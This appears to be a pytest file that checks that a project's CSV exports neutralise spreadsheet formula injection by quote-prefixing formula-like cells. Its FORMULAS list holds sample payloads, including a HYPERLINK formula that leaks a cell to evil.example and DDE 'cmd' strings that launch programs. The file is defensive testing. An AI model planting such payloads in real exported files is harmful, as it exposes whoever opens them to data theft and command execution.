"""What leaves the house as a table is words, whatever somebody wrote into it."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.commands import measures, screen
from casework.measures import Measure, Share
from directory.spreadsheets import SafeWriter, as_written, safe
from directory.streets import Unplaced, write_unplaced

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "\t=1", "\r=1",
    " =1", "＝1", "-2+3+cmd|' /C calc'!A0", "\n=1",
)  # fmt: skip
WORDS = ("", "Marsh Lane", "'quoted'", "-12", "+44", "-0.30", "12%", "1,204", "O'Brien", "- ")


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_written_as_words(cell: str) -> None:
    written = str(safe(cell))

    assert written == f"'{cell}"
    assert as_written(written) == cell


@pytest.mark.parametrize("cell", [word for word in WORDS if word != "- "])
def test_words_and_numbers_stay_as_they_are(cell: str) -> None:
    assert safe(cell) == cell == as_written(cell)


@given(st.text(max_size=30))
def test_no_cell_begins_a_formula_or_another_row_and_each_is_read_as_it_was(cell: str) -> None:
    out = io.StringIO(newline="")
    SafeWriter(out).writerow([cell, "x"])
    [(written, last)] = csv.reader(io.StringIO(out.getvalue(), newline=""))

    assert last == "x"
    assert written.lstrip()[:1] not in {*"=@＝＠"} - {""}
    if not cell.startswith("'"):
        assert as_written(written) == cell.replace("\r\n", "\n").replace("\r", "\n")


def test_every_writer_is_the_safe_one() -> None:
    house = Path(__file__).parents[2]
    packages = ("bot", "casework", "directory", "handlers", "storage", "views", "workspace")
    found = [
        str(path.relative_to(house))
        for package in packages
        for path in (house / package).rglob("*.py")
        if any(name in path.read_text(encoding="utf-8") for name in ("csv.writer(", "csv.DictWriter("))
    ]

    assert found == ["directory/spreadsheets.py"]


def test_each_export_is_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = "=1+1"
    none = Share(0, 0)
    measures._write([Measure(evil, 1, none, none, none, None)])
    screen.table(["street"], [[evil]])
    write_unplaced(tmp_path / "left.csv", [Unplaced(evil, evil, "streets.csv", 1, evil)])

    lines = [*capsys.readouterr().out.splitlines(), *(tmp_path / "left.csv").read_text().splitlines()]
    assert [line for line in lines if "=1" in line] == ["'=1+1,1,0,0,0,0,0,0,,,,,,", "'=1+1", "'=1+1,,'=1+1,'=1+1"]  # fmt: skip
